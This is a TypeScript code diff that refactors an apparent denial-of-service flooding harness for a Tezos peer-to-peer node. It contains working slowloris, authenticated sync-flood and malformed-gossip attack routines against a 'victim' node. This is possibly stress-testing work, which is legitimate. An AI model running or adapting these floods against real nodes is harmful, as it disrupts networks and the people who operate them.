@@ -126,6 +126,19 @@ export async function startFlood (options: FloodOptions): Promise<Flood> {
     while (running && c.status === 'open') await sleep(100)
   }
 
+  /** A tzp2p node that authenticates, runs `misbehave` on the connection, and starts over. */
+  const authenticatedAttacker = async (ip: string, misbehave: (c: Connection) => Promise<void>): Promise<void> => {
+    const node = await tezosHost(ip, options.chainName)
+    hosts.push(node)
+    while (running) {
+      const c = await connect(async () => await authenticatedConnection(node, victim))
+      if (c === undefined) return
+      counts.authenticated++
+      await misbehave(c)
+      await closed(c)
+    }
+  }
+
   const attack: Record<AttackKind, (ip: string) => Promise<void>> = {
     async slowloris (ip) {
       const host = await rawHost(ip)
@@ -161,12 +174,7 @@ export async function startFlood (options: FloodOptions): Promise<Flood> {
       }
     },
     async 'sync-flood' (ip) {
-      const node = await tezosHost(ip, options.chainName)
-      hosts.push(node)
-      while (running) {
-        const c = await connect(async () => await authenticatedConnection(node, victim))
-        if (c === undefined) return
-        counts.authenticated++
+      await authenticatedAttacker(ip, async c => {
         const worker = async (): Promise<void> => {
           while (running && c.status === 'open') {
             try {
@@ -184,24 +192,16 @@ export async function startFlood (options: FloodOptions): Promise<Flood> {
           }
         }
         await Promise.all(Array.from({ length: 8 }, worker))
-        await closed(c)
-      }
+      })
     },
     async garbage (ip) {
-      const node = await tezosHost(ip, options.chainName)
-      hosts.push(node)
-      while (running) {
-        const c = await connect(async () => await authenticatedConnection(node, victim))
-        if (c === undefined) return
-        counts.authenticated++
+      await authenticatedAttacker(ip, async c => {
         try {
           const stream = await c.newStream(GOSSIP_PROTOCOL)
           stream.send(new Uint8Array([0xff, 0xff, 0xff, 0xf0, 0, 0x10]))
           counts.garbage++
         } catch {}
-        await closed(c)
-        await sleep(250)
-      }
+      })
     }
   }
 
